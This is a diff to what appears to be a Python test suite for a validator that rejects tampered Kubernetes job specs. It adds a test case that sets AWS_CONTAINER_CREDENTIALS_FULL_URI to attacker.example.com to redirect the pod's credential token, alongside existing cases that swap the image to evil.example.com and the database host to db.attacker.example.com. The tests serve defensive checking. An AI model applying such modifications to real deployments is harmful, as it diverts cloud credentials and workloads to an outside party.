@@ -392,6 +392,15 @@ def changed(change: Any) -> Object:
     return job
 
 
+def redirect_credentials(_: Object, __: Object, container: Object) -> None:
+    """Send the pod identity's token to somebody else's server."""
+    address = {
+        "name": "AWS_CONTAINER_CREDENTIALS_FULL_URI",
+        "value": "https://attacker.example.com",
+    }
+    container["env"].append(address)
+
+
 def set_host(_: Object, __: Object, container: Object) -> None:
     (host,) = (one for one in container["env"] if one["name"] == "MAUTIC_DB_HOST")
     host["value"] = "db.attacker.example.com"
@@ -430,6 +439,7 @@ def set_host(_: Object, __: Object, container: Object) -> None:
         (changed(lambda job, pod, one: one.update(image="evil.example.com/x")), REGISTRY),
         (changed(lambda job, pod, one: one.update(image=f"{REGISTRY}-evil/x")), REGISTRY),
         (changed(set_host), "server is db.example.com"),
+        (changed(redirect_credentials), "nothing else"),
         (changed(lambda job, pod, one: pod.update(serviceAccountName="other")), "runs as"),
         (
             changed(
